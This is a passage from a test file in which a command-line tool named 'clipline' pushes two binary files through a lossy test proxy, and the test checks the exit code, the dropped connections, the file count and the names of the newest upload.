  expect((await clipline(['push', '0.bin', '1.bin'], '', by)).code).toBe(0);
  expect(proxy.lost).toHaveLength(4);
  expect(await total()).toBe(before + 2);
  expect((await newest()).files.map((file: { name: string }) => file.name)).toEqual([
    '0.bin',
    '1.bin',
  ]);
  proxy.stop();
});
